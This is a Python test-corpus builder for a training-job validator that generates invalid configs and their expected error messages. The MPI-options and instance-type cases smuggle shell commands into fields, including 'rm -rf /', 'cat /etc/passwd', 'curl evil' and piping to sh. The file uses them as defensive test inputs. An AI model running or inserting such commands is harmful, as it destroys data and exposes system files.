"""Builds the bad-input corpus of issue 10: `python tests/reliability/corpus_builder.py` (re)writes
tests/reliability/corpus/ and its manifest.json. The files are committed; this module says how each was made.

Every case is one invalid or hostile file and what the answer must name: `fields` (dotted paths, each of which must
open a problem line `  - <field>: ...`) and `text` (phrases the message must hold, for problems of a whole
document). `rule` names the cross-field rule of `trainops.spec.rules` the case exercises. Job specs are checked with
`trainops validate`, pipeline files with `trainops run` (which must refuse them before running anything).
"""

from __future__ import annotations

import copy
import json
import sys
from pathlib import Path
from typing import Any

import yaml

CORPUS = Path(__file__).resolve().parent / "corpus"

#: A valid job spec every spec case mutates (torchrun on 2 x p4d, the SDK's dict form).
BASE_SPEC: dict[str, Any] = {
    "name": "corpus-job",
    "role": "arn:aws:iam::111122223333:role/SageMakerTrainingRole",
    "region": "us-east-1",
    "framework_version": "2.3.0",
    "py_version": "py311",
    "entry_point": "train.py",
    "source_dir": "src",
    "instance_type": "ml.p4d.24xlarge",
    "instance_count": 2,
    "distribution": {"torch_distributed": {"enabled": True}},
    "hyperparameters": {"epochs": 3, "lr": 0.1},
    "inputs": {"train": "s3://corpus-bucket/train/"},
    "output_path": "s3://corpus-bucket/output",
    "max_run": 3600,
}

#: A valid pipeline every pipeline case mutates. Its prepare step would leave a marker if anything ran.
BASE_PIPELINE: dict[str, Any] = {
    "name": "corpus-pipeline",
    "backend": "local",
    "steps": {
        "prepare": {"script": "must_not_run.py", "args": ["${workdir}/prepare-ran"]},
        "stage": {"source": "${workdir}/raw", "destination": "${workdir}/staged"},
        "train": {"spec": {"name": "corpus-train", "entry_point": "train.py", "source_dir": ".",
                           "instance_type": "local", "instance_count": 1},
                  "channels": {"train": "${workdir}/staged"}},
        "evaluate": {"entry_point": "evaluate.py", "source_dir": ".", "channels": {"test": "${workdir}/staged"},
                     "gate": "accuracy >= 0.9"},
        "register": {"group": "corpus-models", "approval": "Approved"},
    },
}

MUST_NOT_RUN = '''"""Prepare step of every corpus pipeline: it must never run, since each pipeline file is invalid."""
import pathlib
import sys

pathlib.Path(sys.argv[1]).write_text("the prepare step ran")
'''

#: Code the base pipeline and the spec cases name (so that only each case's own mistake is wrong); never run either.
NEVER_RUN = '"""Named by the corpus specs and pipelines so that their code exists; nothing in the corpus runs."""\n' \
            'raise SystemExit("corpus files never run")\n'

#: The code the spec cases name, written beside them: `trainops validate` checks the files a spec names as `render`
#: and `run` do, so each case holds only its own mistake. BASE_SPEC's entry point in its source_dir, the same entry
#: point beside the spec (cases without source_dir), the shell entry point of the torch_distributed rule's case and
#: the dependency directory of the dependencies rule's case.
CASE_CODE = ("src/train.py", "train.py", "src/train.sh", "libs/common/__init__.py")

CASES: list[dict[str, Any]] = []


def write_case_code(folder: Path, names: tuple[str, ...] = CASE_CODE) -> list[Path]:
    """Write each of ``names`` (paths relative to ``folder``, where the specs are) as code that must never run."""
    written = []
    for name in names:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(NEVER_RUN, encoding="utf-8")
        written.append(path)
    return written


def spec(name: str, changes: dict[str, Any] | None = None, *, remove: tuple[str, ...] = (), fields=(), text=(),
         rule: str | None = None, fmt: str = "yaml", base: dict[str, Any] | None = None) -> None:
    """A job-spec case: BASE_SPEC (or `base`) with `changes` applied (None values delete keys)."""
    data = copy.deepcopy(BASE_SPEC if base is None else base)
    for key in remove:
        data.pop(key, None)
    data.update(changes or {})
    _add(f"specs/{name}.{fmt}", _dump(data, fmt), "validate", fields, text, rule)


def raw(name: str, content: str | bytes, *, command: str = "validate", fields=(), text=(), rule=None) -> None:
    """A case written as exact text or bytes (hostile documents the dumpers cannot produce)."""
    folder = "specs" if command == "validate" else "pipelines"
    _add(f"{folder}/{name}", content, command, fields, text, rule)


def pipeline(name: str, mutate, *, fields=(), text=(), fmt: str = "yaml", workdir_override: bool = True,
             rule: str | None = None) -> None:
    """A pipeline case: `mutate(document)` changes a copy of BASE_PIPELINE in place. Pipelines are run with
    `--workdir <temporary directory>` unless `workdir_override` is false. ``rule``: the engine's own rule the case
    exercises (a pipeline names its backend, so an engine's rule set binds there)."""
    data = copy.deepcopy(BASE_PIPELINE)
    mutate(data)
    _add(f"pipelines/{name}.{fmt}", _dump(data, fmt), "run", fields, text, rule)
    if not workdir_override:
        CASES[-1]["workdir_override"] = False


def _dump(data: Any, fmt: str) -> str:
    if fmt == "json":
        return json.dumps(data, indent=2, ensure_ascii=False) + "\n"
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True, width=4096)


def _add(path: str, content, command: str, fields, text, rule) -> None:
    if any(case["file"] == path for case in CASES):
        raise ValueError(f"two cases named {path}")
    CASES.append({"file": path, "content": content, "command": command, "fields": list(fields),
                  "text": list(text), "rule": rule})


def with_distribution(distribution: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {"distribution": distribution, **extra}


# ---------------------------------------------------------------------------------------------------------------
# 1. Wrong types, one per field.
WRONG_TYPES = {
    "name": [1, 2], "role": 12, "region": ["us-east-1"], "image_uri": {"a": 1}, "framework": "jax",
    "framework_version": 2.3, "py_version": 311, "entry_point": ["train.py"], "source_dir": 7, "launcher": "bash",
    "instance_type": 5, "instance_count": "two", "instance_groups": "gpu", "distribution": "smddp",
    "hyperparameters": ["epochs", 3], "inputs": "s3://corpus-bucket/train/", "input_mode": "Stream",
    "subnets": "subnet-0123456789abcdef0", "security_group_ids": {"sg": 1}, "output_path": 42,
    "max_run": "1h", "volume_size": 30.5, "volume_kms_key": ["k"], "output_kms_key": True,
    "use_spot_instances": "maybe", "max_wait": [1], "max_retry_attempts": "three", "keep_alive_period_in_seconds": -1,
    "checkpoint_s3_uri": 5, "checkpoint_local_path": False, "environment": ["A=1"], "enable_network_isolation": "nope",
    "encrypt_inter_container_traffic": 2, "tags": 5,
}
for field_name, value in WRONG_TYPES.items():
    spec(f"type-{field_name.replace('_', '-')}", {field_name: value}, fields=[field_name])

# Nested wrong types.
spec("type-inputs-channel-number", {"inputs": {"train": 5}}, fields=["inputs.train"])
spec("type-inputs-s3-data-list", {"inputs": {"train": {"s3_data": ["s3://corpus-bucket/x"]}}},
     fields=["inputs.train.s3_data"])
spec("type-fsx-id-list", {"inputs": {"train": {"file_system_id": [1], "directory_path": "/fsx/train"}},
                          "subnets": ["subnet-0123456789abcdef0"], "security_group_ids": ["sg-0123456789abcdef0"]},
     fields=["inputs.train.file_system_id"])
spec("type-tags-item-number", {"tags": [1, 2]}, fields=["tags.0", "tags.1"])
spec("type-tag-key-list", {"tags": [{"Key": ["a"], "Value": "b"}]}, fields=["tags.0.Key"])
spec("type-environment-null-value", {"environment": {"A": None}}, fields=["environment.A"])
spec("type-environment-list-value", {"environment": {"A": [1]}}, fields=["environment.A"])
spec("type-instance-group-count", {"instance_type": None, "instance_groups": [
    {"instance_group_name": "a", "instance_type": "ml.p4d.24xlarge", "instance_count": "x"}]},
     fields=["instance_groups.0.instance_count"])
spec("type-instance-group-null-items", {"instance_type": None, "instance_groups": [None, None]},
     fields=["instance_groups.0", "instance_groups.1"])
spec("type-distribution-list", {"distribution": [{"torch_distributed": {"enabled": True}}]}, fields=["distribution"])
spec("type-distribution-type-number", {"distribution": {"type": 5}}, fields=["distribution"])
spec("type-distribution-enabled-text", {"distribution": {"torch_distributed": {"enabled": "yes please"}}},
     fields=["distribution.torch_distributed.enabled"])
spec("type-distribution-processes-text", {"distribution": {"type": "torch_distributed", "processes_per_host": "8"
                                                            " per host"}},
     fields=["distribution.processes_per_host"])
spec("type-smp-parameters-list", {"distribution": {"type": "smp", "parameters": [1]}},
     fields=["distribution.parameters"])
spec("type-smp-parameter-key-number", {"distribution": {
    "smdistributed": {"modelparallel": {"enabled": True, "parameters": {1: 2}}}, "torch_distributed": {"enabled": True}}},
     fields=["distribution.smdistributed.modelparallel.parameters.1"])
spec("type-hyperparameter-key-number", {"hyperparameters": {3: 1}}, fields=["hyperparameters.3"])
spec("type-channel-name-number", {"inputs": {7: "s3://corpus-bucket/x"}}, fields=["inputs.7"])
# YAML 1.2 core schema (issue 14): dates and yes/no are text, so these are type errors only where text is wrong.
raw("type-yaml-true-as-name.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\nname: true\n",
    fields=["name"])
raw("type-yaml-number-as-name.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\nname: 1e-5\n",
    fields=["name"])
spec("field-inputs-dot-channel", {"inputs": {".": "s3://corpus-bucket/x"}}, fields=["inputs"])
spec("field-inputs-dotdot-channel", {"inputs": {"..": "s3://corpus-bucket/x"}}, fields=["inputs"])
spec("field-environment-nul", {"environment": {"A": "x\x00y"}}, fields=["environment"], fmt="json")
spec("field-hyperparameter-nul", {"hyperparameters": {"lr": "0.1\x00--evil"}}, fields=["hyperparameters"],
     text=["NUL"], fmt="json")
spec("field-hyperparameter-nul-nested", {"hyperparameters": {"layers": [{"name\x00": 1}]}},
     fields=["hyperparameters"], text=["NUL"])
spec("field-environment-trainops-reserved", {"environment": {"TRAINOPS_HEALTHCHECK": "0"}}, fields=["environment"])
spec("field-inputs-malformed-s3-uri", {"inputs": {"train": "s3:/corpus-bucket/x"}}, fields=["inputs.train"])
spec("field-inputs-file-uri-with-host", {"inputs": {"train": "file://host/data"}}, fields=["inputs.train"])
raw("type-yaml-number-as-version.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\n"
                                        "framework_version: 2.30\n", fields=["framework_version"])
raw("type-null-key.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\n~: 3\n", fields=["None"])
raw("type-yaml-set.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\nhyperparameters: !!set {a, b}\n",
    fields=["hyperparameters"])
raw("type-yaml-binary-hyperparameter.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\n"
                                            "hyperparameters: {a: !!binary aGVsbG8=}\n", fields=["hyperparameters"])
raw("type-top-level-list.yaml", "- entry_point: train.py\n- instance_type: ml.p4d.24xlarge\n",
    text=["a job spec is a mapping"])
raw("type-top-level-string.json", '"entry_point: train.py"\n', text=["a job spec is a mapping"])
raw("type-top-level-number.yaml", "42\n", text=["a job spec is a mapping"])

# ---------------------------------------------------------------------------------------------------------------
# 2. Unknown keys, at every level.
spec("unknown-top-level-typo", {"instance_typ": "ml.p4d.24xlarge"}, remove=("instance_type",),
     fields=["instance_typ"], text=["did you mean 'instance_type'"])
spec("unknown-top-level-sdk-only", {"train_instance_count": 2}, fields=["train_instance_count"])
spec("unknown-top-level-camel", {"InstanceType": "ml.p4d.24xlarge"}, fields=["InstanceType"])
spec("unknown-distribution-sdk-typo", {"distribution": {"smdistributed": {"dataparallel": {"enabeld": True}}}},
     fields=["distribution.smdistributed.dataparallel.enabeld"])
spec("unknown-distribution-sdk-strategy", {"distribution": {"horovod": {"enabled": True}}},
     fields=["distribution.horovod"])
spec("unknown-distribution-sdk-library", {"distribution": {"smdistributed": {"dataparallelism": {"enabled": True}}}},
     fields=["distribution.smdistributed.dataparallelism"])
spec("unknown-distribution-typed-key", {"distribution": {"type": "mpi", "processes": 2}},
     fields=["distribution.processes"])
spec("unknown-distribution-type", {"distribution": {"type": "deepspeed"}}, fields=["distribution"],
     text=["'deepspeed' is unknown"])
spec("unknown-distribution-mpi-key", {"distribution": {"mpi": {"enabled": True, "custom_options": "-x A"}}},
     fields=["distribution.mpi.custom_options"])
spec("unknown-input-key", {"inputs": {"train": {"s3_data": "s3://corpus-bucket/x", "shuffle": True}}},
     fields=["inputs.train.shuffle"])
spec("unknown-fsx-input-key", {"inputs": {"train": {"file_system_id": "fs-0123456789abcdef0",
                                                    "directory_path": "/fsx/train", "mount": "/mnt"}},
                               "subnets": ["subnet-0123456789abcdef0"], "security_group_ids": ["sg-0123456789abcdef0"]},
     fields=["inputs.train.mount"])
spec("unknown-tag-key", {"tags": [{"Key": "team", "Value": "x", "Color": "red"}]}, fields=["tags.0.Color"])
spec("unknown-instance-group-key", {"instance_type": None, "instance_groups": [
    {"instance_group_name": "gpu", "instance_type": "ml.p4d.24xlarge", "instance_count": 2, "spot": True}]},
     fields=["instance_groups.0.spot"])
spec("unknown-smp-parameter", {"distribution": {"type": "smp", "parameters": {"tensor_parallelism": 8}},
                               "instance_type": "ml.p5.48xlarge"},
     fields=["distribution.parameters.tensor_parallelism"])
spec("unknown-smp-v1-key-in-v2", {"distribution": {"type": "smp", "parameters": {"microbatches": 4}},
                                  "instance_type": "ml.p5.48xlarge"}, fields=["distribution.parameters.microbatches"])
spec("unknown-smp-v2-key-in-v1", {"distribution": {"type": "smp", "launcher": "mpirun",
                                                   "parameters": {"partitions": 2, "hybrid_shard_degree": 2}}},
     fields=["distribution.parameters.hybrid_shard_degree"])
spec("unknown-key-unicode-lookalike", {"instаnce_count": 2}, fields=["instаnce_count"],
     text=["did you mean 'instance_count'"])  # Cyrillic 'а'
spec("unknown-key-zero-width", {"instance\u200b_count": 2}, fields=["instance\u200b_count"])
spec("unknown-many-keys", {f"stray_{index}": index for index in range(3000)}, fields=["stray_0", "stray_99"],
     text=["more problems"])

# ---------------------------------------------------------------------------------------------------------------
# 3. Single-field rules (field validators and constraints).
spec("field-name-underscore", {"name": "my_job"}, fields=["name"])
spec("field-name-too-long", {"name": "a" * 64}, fields=["name"])
spec("field-name-leading-hyphen", {"name": "-job"}, fields=["name"])
spec("field-name-emoji", {"name": "job-\U0001F680"}, fields=["name"])
spec("field-name-rtl-override", {"name": "job\u202egnp"}, fields=["name"])
spec("field-role-not-arn", {"role": "SageMakerRole"}, fields=["role"])
spec("field-role-short-account", {"role": "arn:aws:iam::1234:role/x"}, fields=["role"])
spec("field-region-typo", {"region": "us-east1"}, fields=["region"])
spec("field-region-upper", {"region": "US-EAST-1"}, fields=["region"])
spec("field-framework-version-text", {"framework_version": "latest"}, fields=["framework_version"])
spec("field-py-version", {"py_version": "python3"}, fields=["py_version"])
spec("field-entry-point-empty", {"entry_point": ""}, fields=["entry_point"])
spec("field-entry-point-huge", {"entry_point": "a" * 200_000 + ".py"}, fields=["entry_point"])
spec("field-source-dir-huge", {"source_dir": "d/" * 3000}, fields=["source_dir"])
spec("field-image-uri-too-long", {"image_uri": "x" * 300}, fields=["image_uri"])
spec("field-instance-count-zero", {"instance_count": 0}, fields=["instance_count"])
spec("field-instance-count-huge", {"instance_count": 10 ** 30}, fields=["instance_count"])
spec("field-instance-count-negative", {"instance_count": -2}, fields=["instance_count"])
spec("field-instance-count-float", {"instance_count": 2.5}, fields=["instance_count"])
spec("field-instance-count-fullwidth", {"instance_count": "２"}, fields=["instance_count"])
spec("field-max-run-zero", {"max_run": 0}, fields=["max_run"])
spec("field-max-run-beyond-limit", {"max_run": 28 * 24 * 3600 + 1}, fields=["max_run"])
raw("field-max-run-infinite.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\nmax_run: .inf\n",
    fields=["max_run"])
raw("field-max-run-nan.json", '{"entry_point": "train.py", "instance_type": "ml.p4d.24xlarge", "max_run": NaN}\n',
    fields=["max_run"])
raw("field-max-run-5000-digits.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\nmax_run: "
    + "9" * 5000 + "\n", fields=["max_run"], text=["5000 digits"])
raw("field-instance-count-5000-digits.json", '{"entry_point": "train.py", "instance_type": "ml.p4d.24xlarge", '
    '"instance_count": -' + "1" * 5000 + "}\n", fields=["instance_count"], text=["5000 digits"])
spec("field-volume-size-zero", {"volume_size": 0}, fields=["volume_size"])
spec("field-volume-size-huge", {"volume_size": 10 ** 9}, fields=["volume_size"])
spec("field-max-retry-attempts", {"max_retry_attempts": 31}, fields=["max_retry_attempts"])
spec("field-keep-alive-too-long", {"keep_alive_period_in_seconds": 21601}, fields=["keep_alive_period_in_seconds"])
spec("field-kms-key-too-long", {"volume_kms_key": "k" * 3000}, fields=["volume_kms_key"])
spec("field-subnets-empty", {"subnets": [], "security_group_ids": ["sg-0123456789abcdef0"]}, fields=["subnets"])
spec("field-subnets-bad-id", {"subnets": ["subnet-xyz"], "security_group_ids": ["sg-0123456789abcdef0"]},
     fields=["subnets"])
spec("field-subnets-duplicate", {"subnets": ["subnet-0123456789abcdef0"] * 2,
                                 "security_group_ids": ["sg-0123456789abcdef0"]}, fields=["subnets"])
spec("field-subnets-too-many", {"subnets": [f"subnet-{index:017x}" for index in range(17)],
                                "security_group_ids": ["sg-0123456789abcdef0"]}, fields=["subnets"])
spec("field-security-groups-bad", {"subnets": ["subnet-0123456789abcdef0"], "security_group_ids": ["sg-1"]},
     fields=["security_group_ids"])
spec("field-security-groups-too-many", {"subnets": ["subnet-0123456789abcdef0"],
                                        "security_group_ids": [f"sg-{index:017x}" for index in range(6)]},
     fields=["security_group_ids"])
spec("field-output-path-bucket-upper", {"output_path": "s3://Corpus-Bucket/out"}, fields=["output_path"])
spec("field-output-path-scheme", {"output_path": "gs://corpus-bucket/out"}, fields=["output_path"])
spec("field-output-path-empty", {"output_path": ""}, fields=["output_path"])
raw("field-output-path-nul.yaml", 'entry_point: train.py\ninstance_type: ml.p4d.24xlarge\noutput_path: "out\\0put"\n',
    fields=["output_path"])
spec("field-checkpoint-s3-uri", {"checkpoint_s3_uri": "s3:/corpus-bucket/ckpt"}, fields=["checkpoint_s3_uri"])
spec("field-checkpoint-local-relative", {"checkpoint_local_path": "checkpoints"}, fields=["checkpoint_local_path"])
spec("field-checkpoint-local-dotdot", {"checkpoint_local_path": "/opt/ml/../../etc"},
     fields=["checkpoint_local_path"])
spec("field-inputs-too-many", {"inputs": {f"c{index}": "s3://corpus-bucket/x" for index in range(21)}},
     fields=["inputs"])
spec("field-inputs-bad-channel-name", {"inputs": {"train data": "s3://corpus-bucket/x"}}, fields=["inputs"])
spec("field-inputs-unicode-channel-name", {"inputs": {"trän": "s3://corpus-bucket/x"}}, fields=["inputs"])
spec("field-inputs-s3-bad-bucket", {"inputs": {"train": "s3://a/x"}}, fields=["inputs.train"])
spec("field-inputs-http", {"inputs": {"train": "https://example.com/data"}}, fields=["inputs.train"])
spec("field-inputs-empty-uri", {"inputs": {"train": ""}}, fields=["inputs.train"])
spec("field-inputs-distribution", {"inputs": {"train": {"s3_data": "s3://corpus-bucket/x", "distribution": "Random"}}},
     fields=["inputs.train.distribution"])
spec("field-inputs-data-type", {"inputs": {"train": {"s3_data": "s3://corpus-bucket/x", "s3_data_type": "Folder"}}},
     fields=["inputs.train.s3_data_type"])
spec("field-inputs-content-type-long", {"inputs": {"train": {"s3_data": "s3://corpus-bucket/x",
                                                             "content_type": "t" * 300}}},
     fields=["inputs.train.content_type"])
spec("field-inputs-input-mode", {"inputs": {"train": {"s3_data": "s3://corpus-bucket/x", "input_mode": "Stream"}}},
     fields=["inputs.train.input_mode"])
FSX_VPC = {"subnets": ["subnet-0123456789abcdef0"], "security_group_ids": ["sg-0123456789abcdef0"]}
spec("field-fsx-id", {"inputs": {"train": {"file_system_id": "fs-xyz", "directory_path": "/fsx/t"}}, **FSX_VPC},
     fields=["inputs.train.file_system_id"])
spec("field-fsx-relative-path", {"inputs": {"train": {"file_system_id": "fs-0123456789abcdef0",
                                                      "directory_path": "fsx/t"}}, **FSX_VPC},
     fields=["inputs.train.directory_path"])
spec("field-fsx-dotdot-path", {"inputs": {"train": {"file_system_id": "fs-0123456789abcdef0",
                                                    "directory_path": "/fsx/../etc"}}, **FSX_VPC},
     fields=["inputs.train.directory_path"])
spec("field-fsx-type", {"inputs": {"train": {"file_system_id": "fs-0123456789abcdef0", "directory_path": "/fsx/t",
                                             "file_system_type": "NFS"}}, **FSX_VPC},
     fields=["inputs.train.file_system_type"])
spec("field-fsx-access-mode", {"inputs": {"train": {"file_system_id": "fs-0123456789abcdef0",
                                                    "directory_path": "/fsx/t", "file_system_access_mode": "rwx"}},
                               **FSX_VPC}, fields=["inputs.train.file_system_access_mode"])
spec("field-environment-bad-name", {"environment": {"1ABC": "x"}}, fields=["environment"])
spec("field-environment-name-with-equals", {"environment": {"A=B": "x"}}, fields=["environment"])
spec("field-environment-unicode-name", {"environment": {"ÄPI": "x"}}, fields=["environment"])
spec("field-environment-value-too-long", {"environment": {"A": "v" * 600}}, fields=["environment"])
spec("field-environment-too-many", {"environment": {f"V{index}": "x" for index in range(101)}},
     fields=["environment"])
spec("field-hyperparameters-too-many", {"hyperparameters": {f"h{index}": index for index in range(101)}},
     fields=["hyperparameters"])
spec("field-hyperparameter-empty-name", {"hyperparameters": {"": 1}}, fields=["hyperparameters"])
spec("field-hyperparameter-long-name", {"hyperparameters": {"h" * 300: 1}}, fields=["hyperparameters"])
spec("field-hyperparameter-huge-value", {"hyperparameters": {"vocab": "w " * 50_000}}, fields=["hyperparameters"])
spec("field-hyperparameter-long-list", {"hyperparameters": {"class_weights": [1.0] * 1000}},
     fields=["hyperparameters"])
spec("field-tags-too-many", {"tags": {f"t{index}": "x" for index in range(51)}}, fields=["tags"])
spec("field-tag-key-empty", {"tags": [{"Key": "", "Value": "x"}]}, fields=["tags.0.Key"])
spec("field-tag-value-too-long", {"tags": [{"Key": "k", "Value": "v" * 300}]}, fields=["tags.0.Value"])
spec("field-instance-group-name-empty", {"instance_type": None, "instance_groups": [
    {"instance_group_name": "", "instance_type": "ml.p4d.24xlarge", "instance_count": 1}]},
     fields=["instance_groups.0.instance_group_name"])
spec("field-instance-group-count-zero", {"instance_type": None, "instance_groups": [
    {"instance_group_name": "gpu", "instance_type": "ml.p4d.24xlarge", "instance_count": 0}]},
     fields=["instance_groups.0.instance_count"])
spec("field-processes-per-host-zero", {"distribution": {"type": "torch_distributed", "processes_per_host": 0}},
     fields=["distribution.processes_per_host"])
spec("field-processes-per-host-huge", {"distribution": {"mpi": {"enabled": True, "processes_per_host": 5000}},
                                       "instance_type": "ml.c5.18xlarge"},
     fields=["distribution.mpi.processes_per_host"])
spec("field-smddp-launcher", {"distribution": {"type": "smddp", "launcher": "srun"}}, fields=["distribution.launcher"])
spec("field-smp-launcher", {"distribution": {"type": "smp", "launcher": "deepspeed"}},
     fields=["distribution.launcher"])

# Custom MPI options that only make sense to a shell (issue 10, item 3), in each place they can be written.
SHELL_OPTIONS = {
    "semicolon": "-x A; rm -rf /", "pipe": "-verbose | tee /tmp/x", "backtick": "-x A=`id`",
    "dollar-parens": "-x A=$(cat /etc/passwd)", "and": "-np 2 && curl evil", "redirect": "-verbose > /tmp/log",
    "newline": "-verbose\ntouch /tmp/pwned", "glob": "-x LD_PRELOAD=/tmp/*.so", "variable": "-x A=$HOME",
    "background": "-verbose & sleep 100",
}
for label, options in SHELL_OPTIONS.items():
    spec(f"mpi-options-{label}", {"distribution": {"mpi": {"enabled": True, "custom_mpi_options": options}},
                                  "instance_type": "ml.c5.18xlarge"},
         fields=["distribution.mpi.custom_mpi_options"], text=["shell metacharacters"])
spec("mpi-options-smddp-sdk", {"distribution": {"smdistributed": {"dataparallel": {
    "enabled": True, "custom_mpi_options": "-x NCCL_DEBUG=INFO; curl evil"}}}},
     fields=["distribution.smdistributed.dataparallel.custom_mpi_options"], text=["shell metacharacters"])
spec("mpi-options-smddp-typed", {"distribution": {"type": "smddp", "custom_mpi_options": "-x A | sh"}},
     fields=["distribution.custom_mpi_options"], text=["shell metacharacters"])
spec("mpi-options-smp-v1", {"distribution": {"type": "smp", "launcher": "mpirun", "parameters": {"partitions": 2},
                                             "custom_mpi_options": "-x A=$(id)"}},
     fields=["distribution.custom_mpi_options"], text=["shell metacharacters"])
spec("mpi-options-unbalanced-quote", {"distribution": {"type": "mpi", "custom_mpi_options": "-x 'A=1"},
                                      "instance_type": "ml.c5.18xlarge"},
     fields=["distribution.custom_mpi_options"], text=["check the quotes"])
spec("mpi-options-too-long", {"distribution": {"type": "mpi", "custom_mpi_options": "-v " * 2000},
                              "instance_type": "ml.c5.18xlarge"}, fields=["distribution.custom_mpi_options"])

# ---------------------------------------------------------------------------------------------------------------
# 4. Every cross-field rule of trainops.spec.rules (and the SDK form's own conflicts).
GPU_GROUPS = [{"instance_group_name": "gpu", "instance_type": "ml.p4d.24xlarge", "instance_count": 2},
              {"instance_group_name": "cpu", "instance_type": "ml.c5.18xlarge", "instance_count": 1}]
spec("rule-instance-type-and-groups", {"instance_groups": GPU_GROUPS[:1]}, fields=["instance_groups"],
     rule="instance_type_is_given")
spec("rule-instance-type-missing", remove=("instance_type",), fields=["instance_type"],
     rule="instance_type_is_given")
spec("rule-instance-type-format", {"instance_type": "p4d.24xlarge"}, fields=["instance_type"],
     rule="instance_type_is_known")
spec("rule-instance-type-shell", {"instance_type": "ml.p4d.24xlarge; rm -rf /"}, fields=["instance_type"],
     rule="instance_type_is_known")
spec("rule-instance-group-type-format", {"instance_type": None, "instance_groups": [
    {"instance_group_name": "gpu", "instance_type": "gpu-large", "instance_count": 1}]},
     fields=["instance_groups.0.instance_type"], rule="instance_type_is_known")
spec("rule-instance-group-names-repeat", {"instance_type": None, "instance_groups": [GPU_GROUPS[0], GPU_GROUPS[0]],
                                          "distribution": {"torch_distributed": {"enabled": True},
                                                           "instance_groups": ["gpu"]}},
     fields=["instance_groups"], rule="instance_type_is_known")
spec("rule-instance-count-with-groups", {"instance_type": None, "instance_groups": GPU_GROUPS,
                                         "distribution": {"torch_distributed": {"enabled": True},
                                                          "instance_groups": ["gpu"]}},
     fields=["instance_count"], rule="instance_count_is_not_the_groups")
spec("rule-groups-unnamed-by-distribution", {"instance_type": None, "instance_groups": GPU_GROUPS},
     fields=["distribution.instance_groups"], rule="instance_groups_named_by_distribution_exist")
spec("rule-groups-named-but-none-defined", {"distribution": {"torch_distributed": {"enabled": True},
                                                             "instance_groups": ["gpu"]}},
     fields=["distribution.instance_groups"], rule="instance_groups_named_by_distribution_exist")
spec("rule-groups-named-unknown", {"instance_type": None, "instance_groups": GPU_GROUPS,
                                   "distribution": {"torch_distributed": {"enabled": True},
                                                    "instance_groups": ["tpu"]}},
     fields=["distribution.instance_groups"], rule="instance_groups_named_by_distribution_exist")
spec("rule-groups-named-two", {"instance_type": None, "instance_groups": GPU_GROUPS,
                               "distribution": {"torch_distributed": {"enabled": True},
                                                "instance_groups": ["gpu", "cpu"]}},
     fields=["distribution.instance_groups"], rule="instance_groups_named_by_distribution_exist")
spec("rule-trainium-smddp", {"instance_type": "ml.trn1.32xlarge",
                             "distribution": {"smdistributed": {"dataparallel": {"enabled": True}}}},
     fields=["distribution"], rule="trainium_runs_torch_distributed")
# An image of the user's own, so that only the Trainium rule (not the image check) refuses TensorFlow there.
spec("rule-trainium-tensorflow", {"instance_type": "ml.trn1.32xlarge", "framework": "tensorflow", "distribution": {},
                                  "image_uri": "111122223333.dkr.ecr.us-east-1.amazonaws.com/tf-neuron:1"},
     fields=["framework"], rule="trainium_runs_torch_distributed")
spec("rule-neuron-compile-on-gpu", {"distribution": {"type": "torch_distributed", "neuron_parallel_compile": True}},
     fields=["distribution.neuron_parallel_compile"], rule="trainium_runs_torch_distributed")
spec("rule-torchrun-shell-entry-point", {"entry_point": "train.sh"}, fields=["entry_point"],
     rule="torch_distributed_runs_python")
spec("rule-torchrun-old-pytorch", {"framework_version": "1.12.1"}, fields=["framework_version"],
     rule="torch_distributed_needs_accelerators")
spec("rule-torchrun-cpu-instance", {"instance_type": "ml.c5.18xlarge"}, fields=["instance_type"],
     rule="torch_distributed_needs_accelerators")
spec("rule-torchrun-too-many-processes", {"distribution": {"type": "torch_distributed", "processes_per_host": 16}},
     fields=["distribution.processes_per_host"], rule="torch_distributed_needs_accelerators")
spec("rule-torchrun-tensorflow", {"framework": "tensorflow"}, fields=["framework"],
     rule="torch_distributed_needs_accelerators")
spec("rule-pytorchddp-old-pytorch", {"framework_version": "1.10.2",
                                     "distribution": {"pytorchddp": {"enabled": True}}}, fields=["framework_version"],
     rule="pytorchddp_versions")
spec("rule-smddp-on-p5", {"instance_type": "ml.g5.48xlarge",
                          "distribution": {"smdistributed": {"dataparallel": {"enabled": True}}}},
     fields=["distribution.smdistributed.dataparallel"], rule="smddp_supported")
spec("rule-smddp-tensorflow", {"framework": "tensorflow",
                               "distribution": {"smdistributed": {"dataparallel": {"enabled": True}}}},
     fields=["framework"], rule="smddp_supported")
spec("rule-smddp-pytorch-version", {"framework_version": "1.8.0",
                                    "distribution": {"smdistributed": {"dataparallel": {"enabled": True}}}},
     fields=["framework_version"], rule="smddp_supported")
spec("rule-pytorchddp-cpu", {"instance_type": "ml.c5.18xlarge", "distribution": {"pytorchddp": {"enabled": True}}},
     fields=["distribution.pytorchddp"], rule="smddp_supported")
SMP_V2 = {"smdistributed": {"modelparallel": {"enabled": True, "parameters": {"tensor_parallel_degree": 8}}},
          "torch_distributed": {"enabled": True}}
# Images of the user's own where AWS publishes none for the case: only the rule under test refuses it (not the
# image check, training_image_exists, which has cases of its own).
OWN_IMAGE = {"image_uri": "111122223333.dkr.ecr.us-east-1.amazonaws.com/own-training:1"}
# SMP v2 on an old PyTorch: the SMP rule and the image check (no SMP v2 image for it) both refuse it, so the case
# proves no one rule; the SMP rule's other cases do.
spec("rule-smp-v2-old-pytorch", {"framework_version": "1.13.1", "distribution": SMP_V2},
     fields=["framework_version"])
spec("rule-smp-on-cpu", {"instance_type": "ml.c5.18xlarge", "distribution": SMP_V2, **OWN_IMAGE},
     fields=["instance_type"], rule="smp_fits_the_fleet")
spec("rule-smp-degree-does-not-divide", {"distribution": {"type": "smp", "parameters": {
    "tensor_parallel_degree": 3}}}, fields=["distribution.smdistributed.modelparallel.parameters.tensor_parallel_degree"],
     rule="smp_fits_the_fleet")
spec("rule-smp-hybrid-shard-does-not-divide", {"distribution": {"type": "smp", "parameters": {
    "tensor_parallel_degree": 2, "hybrid_shard_degree": 3}}},
     fields=["distribution.smdistributed.modelparallel.parameters.hybrid_shard_degree"], rule="smp_fits_the_fleet")
